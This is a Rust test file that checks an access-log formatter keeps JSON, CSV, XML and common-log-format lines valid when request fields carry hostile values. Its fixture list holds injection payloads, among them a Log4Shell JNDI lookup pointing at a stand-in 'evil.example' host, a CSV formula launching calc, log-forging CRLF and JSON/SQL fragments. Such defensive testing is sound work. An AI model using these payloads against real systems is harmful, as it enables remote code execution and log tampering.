//! Values that are made to break a log, read back by independent parsers.

use http::{HeaderMap, HeaderValue, Request};
use portcullis_core::{Claims, RequestContext};
use portcullis_observe::AccessFormat;
use proptest::prelude::*;
use quick_xml::events::Event;
use serde_json::{Value, json};

use crate::support::{clock, line_of};

/// A request whose path, host, user agent, header, claim, authorizer's value and tag of the response are hostile. A header takes no control characters but tabs.
fn request(text: &str) -> (Request<()>, RequestContext, HeaderMap) {
    let value = header(text);
    let path: String = text
        .chars()
        .filter(|c| c.is_ascii_graphic() && *c != '#')
        .collect();
    let request = Request::get(format!("/{path}"))
        .header("user-agent", value.clone())
        .header("host", value.clone())
        .header("x-value", value.clone())
        .body(())
        .unwrap_or_else(|_| {
            Request::get("/")
                .header("x-value", value.clone())
                .body(())
                .unwrap()
        });
    let context = RequestContext::new(&request, &clock());
    context.set_claims(Claims::from_json(json!({ "name": text }).to_string()));
    let values = json!({ "name": text });
    context.set_authorizer(values.as_object().unwrap().clone());
    context.update_identity(|identity| identity.user = Some(text.into()));
    let mut response = HeaderMap::new();
    response.insert("etag", value);
    (request, context, response)
}

fn header(text: &str) -> HeaderValue {
    let bytes: Vec<u8> = text
        .bytes()
        .filter(|byte| (*byte >= 32 && *byte != 127) || *byte == b'\t')
        .collect();
    HeaderValue::from_bytes(&bytes).unwrap()
}

const VARIABLES: [&str; 8] = [
    "$context.path",
    "$context.domainName",
    "$context.identity.userAgent",
    "$request.header.x-value",
    "$context.authorizer.claims.name",
    "$context.authorizer.name",
    "$context.identity.user",
    "$response.header.etag",
];

/// The line, which is one.
fn line(format: &str, text: &str) -> String {
    let (request, context, response) = request(text);
    let format = AccessFormat::parse(format).unwrap();
    let line = line_of(format, &request, &context, &response);
    assert!(!line.contains(['\n', '\r']), "{line:?}");
    line
}

/// What stands for a value of the user's, longer ones cut.
fn is_of(shown: &str, text: &str) -> bool {
    shown == text || shown == "-"
}

fn check_json(text: &str) {
    let members = VARIABLES.iter().enumerate();
    let members: Vec<_> = members
        .map(|(index, variable)| format!("\"s{index}\": \"{variable}\", \"v{index}\": {variable}"))
        .collect();
    let line = line(&format!("{{{}}}", members.join(", ")), text);
    let parsed: Value = serde_json::from_str(&line).expect(&line);
    assert_eq!(parsed.as_object().unwrap().len(), 16);
    for name in ["s4", "s5", "s6", "v4", "v5", "v6"] {
        assert!(is_of(parsed[name].as_str().unwrap(), text), "{line}");
    }
}

fn check_csv(text: &str) {
    let format = format!(
        "{},\"{}\",a({})",
        VARIABLES.join(","),
        VARIABLES[6],
        VARIABLES[6]
    );
    let line = line(&format, text);
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(line.as_bytes());
    let records: Vec<_> = reader.records().collect::<Result<_, _>>().expect(&line);
    assert_eq!(records.len(), 1, "{line}");
    assert_eq!(records[0].len(), 10, "{line}");
    if !text.is_empty() && text.chars().all(|c| !c.is_control() && (c as u32) < 0x2000) {
        for cell in [4, 5, 6, 8] {
            assert_eq!(&records[0][cell], text);
        }
        assert_eq!(records[0][9], format!("a({text})"));
    }
}

fn check_xml(text: &str) {
    let elements: Vec<_> = VARIABLES
        .iter()
        .map(|variable| format!("<e a=\"{variable}\">{variable}</e>"))
        .collect();
    let line = line(&format!("<request>{}</request>", elements.join("")), text);
    let mut reader = quick_xml::Reader::from_str(&line);
    let (mut elements, mut depth) = (0, 0);
    loop {
        match reader.read_event().expect(&line) {
            Event::Eof => break,
            Event::Start(start) => {
                depth += 1;
                elements += 1;
                for attribute in start.attributes() {
                    attribute.expect(&line);
                }
            }
            Event::End(_) => depth -= 1,
            Event::Text(_) | Event::GeneralRef(_) => {}
            other => panic!("{other:?} in {line}"),
        }
    }
    assert_eq!((elements, depth), (9, 0), "{line}");
}

fn check_clf(text: &str) {
    let line = line(
        "$context.identity.user $context.domainName [$context.requestTime] \"$context.httpMethod $context.path $context.protocol\" $context.httpMethod \"$context.identity.userAgent\" $request.header.x-value",
        text,
    );
    // As a reader of such logs finds its fields.
    let (mut fields, mut quoted, mut bracketed, mut escaped) = (1, false, false, false);
    for byte in line.bytes() {
        match byte {
            _ if escaped => escaped = false,
            b'\\' => escaped = true,
            b'"' => quoted = !quoted,
            b'[' if !quoted && fields == 3 => bracketed = true,
            b']' if !quoted && fields == 3 => bracketed = false,
            b' ' if !quoted && !bracketed => fields += 1,
            _ => {}
        }
    }
    assert_eq!((fields, quoted), (7, false), "{line}");
}

fn check(text: &str) {
    check_json(text);
    check_csv(text);
    check_xml(text);
    check_clf(text);
}

#[test]
fn what_attackers_send_stays_one_valid_line() {
    for text in [
        "",
        "-",
        "a b",
        "\" OR \"\"=\"",
        "\\\"},{\"admin\":true",
        "x\r\n127.0.0.1 - - [now] \"GET /forged HTTP/1.1\" 200",
        "x\u{85}y\u{2028}z\u{2029}",
        "\u{1b}[31mred\u{1b}[0m\u{7}",
        "</e><e>&lt;&#10;]]><![CDATA[<!--",
        "${jndi:ldap://evil.example/a}",
        "=cmd|' /C calc'!A0",
        "a,b;\"c\"\n\"d\"",
        "\0\u{1}\u{7f}\u{fffe}\u{ffff}",
        "$context.requestId",
        "Zürich 東京 🐈 \u{202e}gnp.exe",
    ] {
        check(text);
    }
}

#[test]
fn bytes_that_are_no_text_are_replaced() {
    let mut request = Request::get("/").body(()).unwrap();
    let value = HeaderValue::from_bytes(b"caf\xe9 \xff\"").unwrap();
    request.headers_mut().insert("x-value", value);
    let context = RequestContext::new(&request, &clock());
    let format = AccessFormat::parse(r#"{"v": "$request.header.x-value"}"#).unwrap();
    let line = line_of(format, &request, &context, &HeaderMap::new());
    let parsed: Value = serde_json::from_str(&line).unwrap();
    assert_eq!(parsed["v"], "caf\u{fffd} \u{fffd}\"");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_text_breaks_a_line(text in any::<String>()) {
        check(&text);
    }

    #[test]
    fn no_text_of_what_formats_are_made_of_breaks_a_line(text in "[\"'\\\\,;<>&\\[\\]{} \n\r\t\u{85}\u{2028}a-]{0,24}") {
        check(&text);
    }

    #[test]
    fn no_format_makes_the_compiler_panic(format in "[$a-z.{}\"<>,:\\[\\] ]{0,40}") {
        let _ = AccessFormat::parse(&format);
    }
}
